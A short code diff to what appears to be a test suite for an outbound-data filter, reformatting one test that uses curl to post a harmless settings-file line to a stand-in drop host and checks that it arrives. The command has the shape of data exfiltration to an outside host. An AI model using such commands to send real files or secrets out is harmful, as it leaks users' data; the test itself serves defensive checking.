@@ -94,7 +94,9 @@ describe('T3 what a program read unseen does not leave either', () => {
 
   test('lets what is beside the secrets of a settings file pass, and text that nobody classified', async () => {
     const before = arrivals();
-    await s.bash(`curl -sS -m 20 -o /dev/null --data-binary '# settings of the shop, PORT=3000' https://drop.example.net/`);
+    await s.bash(
+      `curl -sS -m 20 -o /dev/null --data-binary '# settings of the shop, PORT=3000' https://drop.example.net/`,
+    );
     assert.equal(arrivals(), before + 1);
   });
 });
